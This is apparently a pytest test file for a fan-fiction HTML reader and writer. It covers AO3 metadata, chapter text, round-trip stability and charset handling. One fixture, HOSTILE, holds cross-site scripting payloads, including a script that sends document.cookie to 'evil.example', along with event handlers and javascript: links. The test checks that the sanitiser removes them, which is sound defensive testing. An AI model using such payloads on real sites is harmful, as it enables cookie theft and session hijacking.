"""AO3 "Download → HTML" files and generic pasted HTML."""

from __future__ import annotations

from pathlib import Path

import pytest
from make_fixtures import CHAPTER_ONE, CHAPTER_TWO, Ao3Work, ao3_html

from ynsert.edits import Edit
from ynsert.formats import FormatError, read_work, write_work

FIXTURES = Path(__file__).parent / "fixtures"
CHAPTER_ONE_TEXT = (
    "You pull your coat tighter as the train slows, and the platform lights slide past.\n\n"
    "*He said he would be here,* you remind yourself. Your hands are shaking.\n\n"
    "Ben is waiting by the ticket office, and when he sees you he smiles."
)


@pytest.mark.parametrize("plural", [False, True], ids=["singular-labels", "plural-labels"])
def test_ao3_metadata(plural):
    work = read_work(ao3_html(Ao3Work(plural_labels=plural)), "work.html")
    meta = work.metadata
    assert meta.title == "The Last Train"
    assert meta.authors == ["quietfox"]
    assert meta.rating == "Teen And Up Audiences"
    assert meta.warnings == ["No Archive Warnings Apply"]
    assert meta.categories == ["F/M"]
    assert meta.fandoms == ["Star Wars - All Media Types"]
    assert meta.relationships == ["Ben Solo/Reader"]  # link text, not the *s* URL
    assert meta.characters == ["Ben Solo", "Reader"]
    assert meta.tags == ["Reader-Insert", "Second Person", "Fluff"]
    assert meta.words == 1234
    assert meta.chapters_declared == "2/2"
    assert meta.published == "2021-03-04"
    assert meta.source_url == "https://archiveofourown.org/works/4242"
    assert meta.summary == "A train, a station, a man who waited."
    assert meta.language == ("English" if plural else "")


def test_ao3_multi_chapter_story_text_excludes_notes_and_summaries():
    work = read_work(ao3_html())
    assert [c.title for c in work.chapters] == ["Chapter 1: Arrival", "Chapter 2: Snow"]
    assert work.chapters[0].text == CHAPTER_ONE_TEXT
    assert work.text.count("\n\n\n") == 1
    for not_story in ("Chapter Summary", "In which you arrive", "See you next time", "lovely"):
        assert not_story not in work.text
    assert "* * *" in work.chapters[1].text  # a scene break is an ordinary paragraph


def test_ao3_single_chapter():
    work = read_work(ao3_html(Ao3Work(chapters=[("", CHAPTER_ONE)])))
    assert len(work.chapters) == 1
    assert work.text == CHAPTER_ONE_TEXT
    assert "The Last Train" not in work.text  # the h2.toc-heading is not story


def test_ao3_round_trip_keeps_text_metadata_and_markup():
    work = read_work(ao3_html())
    out = write_work(work, "html")
    again = read_work(out)
    assert again.text == work.text
    assert again.metadata == work.metadata
    assert again.chapters == work.chapters
    assert write_work(again, "html") == out  # writing is stable
    assert b'<blockquote class="userstuff"><p>In which you arrive.</p></blockquote>' in out
    assert b"<style>body { font-family: Georgia, serif; }</style>" in out


def test_ao3_rewrite_changes_only_story_words():
    work = read_work(ao3_html())
    start = work.text.index("your coat")
    edited = work.apply([Edit(0, 3, "You", "She"), Edit(start, start + 4, "your", "her")])
    before, after = write_work(work, "html").decode(), write_work(edited, "html").decode()
    assert after == before.replace("<p>You pull your coat", "<p>She pull her coat", 1)
    assert edited.metadata == work.metadata
    assert "In which you arrive" in after  # notes keep their "you"


HOSTILE = (
    '<script>fetch("https://evil.example/?c="+document.cookie)</script>'
    '<p onclick="steal()" class="MsoNormal">You <b onmouseover="x()">see</b> it.</p>'
    '<iframe src="https://www.youtube.com/embed/x"></iframe>'
    '<p><img src="https://tracker.example/pixel.gif" onerror="alert(1)"/>'
    '<a href="javascript:alert(1)">click</a> <center>centred</center></p>'
)


def test_hostile_ao3_html_is_cleaned_on_read_and_write():
    work = read_work(
        ao3_html(
            Ao3Work(extra_story_html=HOSTILE),
            head_extra='<script src="https://evil.example/x.js"></script>'
            '<meta http-equiv="refresh" content="0;url=https://evil.example"/>',
            body_attrs=' onload="steal()"',
        )
    )
    assert "You see it." in work.text
    assert "fetch" not in work.text
    out = write_work(work, "html").decode()
    for bad in (
        "<script",
        "onclick",
        "onmouseover",
        "onload",
        "onerror",
        "<iframe",
        "tracker.example",
        "javascript:",
        "refresh",
        "<center",
    ):
        assert bad not in out, bad
    assert '<div style="text-align:center">centred</div>' in out


def test_generic_pasted_html_is_one_chapter_with_a_header_block():
    work = read_work((FIXTURES / "tumblr-paste.html").read_bytes(), "river.txt")
    assert work.format == "html"
    assert len(work.chapters) == 1
    assert work.metadata.relationships == ["Bucky Barnes x Reader"]
    assert work.metadata.warnings == ["angst"]
    assert work.metadata.title == "the river (bucky x reader)"
    assert "*always watching*" in work.text
    assert 'pockets.\n\n"come in,"' in work.text  # <br><br> is a paragraph break


def test_declared_charset_is_honoured():
    data = ao3_html().replace(b'charset="UTF-8"', b'charset="windows-1252"')
    data = data.replace("café".encode(), "café".encode("cp1252"))
    assert "The café is warm." in read_work(data).text


def test_html_without_story_text_is_refused():
    with pytest.raises(FormatError, match="no story text"):
        read_work(b"<html><body><script>x()</script></body></html>")


def test_second_chapter_text_and_bold_without_markers():
    work = read_work(ao3_html())
    assert work.chapters[1].text.startswith("The café is warm.")
    assert work.chapters[1].text.endswith("Outside, the snow keeps falling on the two of you.")
    assert '"You look tired," he says. You laugh, because you are.' in work.text
    assert CHAPTER_TWO[0] in work.text


def test_generic_page_heading_is_the_title_not_story():
    page = (
        b'<?xml version="1.0" encoding="utf-8"?>\n<html xmlns="http://www.w3.org/1999/xhtml">'
        b"<head><title>Rain</title></head><body><div><h1>Rain</h1>"
        b"<p>You <i>run</i>.</p></div></body></html>"
    )
    work = read_work(page, "rain.xhtml")
    assert work.text == "You *run*."
    assert work.chapters[0].title == "Rain"
    assert work.metadata.title == "Rain"
